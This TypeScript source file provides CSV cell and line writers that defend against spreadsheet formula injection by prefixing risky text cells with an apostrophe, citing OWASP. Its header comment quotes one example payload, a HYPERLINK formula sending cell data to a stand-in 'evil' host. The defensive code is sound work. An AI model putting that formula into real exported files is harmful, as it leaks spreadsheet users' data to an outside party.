/**
 * CSV cells and lines (RFC 4180, CRLF), for files people open in a spreadsheet.
 *
 * A spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell that begins with `=`, `+`, `-`,
 * `@`, tab or CR as a formula, which can run commands or send the sheet's data away
 * (`=HYPERLINK("http://evil/?"&A1,"click")`). OWASP's advice on CSV injection: a text cell
 * beginning so is written with a leading `'`, which spreadsheets show as text and do not evaluate.
 * Numbers are not text: a negative number stays a number.
 */

const FORMULA_START = /^[=+\-@\t\r]/;
/** A field is quoted when it holds a comma, a quote, CR or LF, its quotes doubled. */
const NEEDS_QUOTES = /[",\r\n]/;

type CsvValue = string | number | null | undefined;

/**
 * One cell; null and undefined are empty. `text`: whether the cell is text, guarded against
 * formulas; by default, when the value is a string. A column of dates or numbers held as strings
 * passes false, so that its cells are written as they are and never change shape from row to row.
 */
export function csvCell(value: CsvValue, text = typeof value === 'string'): string {
  if (value === null || value === undefined) return '';
  const written = String(value);
  const field = text && FORMULA_START.test(written) ? `'${written}` : written;
  return NEEDS_QUOTES.test(field) ? `"${field.replaceAll('"', '""')}"` : field;
}

/** One line of cells, ending in CRLF; `text[i]`, when given, says whether cell i is text (`csvCell`). */
export function csvLine(values: readonly CsvValue[], text?: readonly boolean[]): string {
  return `${values.map((value, i) => csvCell(value, text?.[i])).join(',')}\r\n`;
}
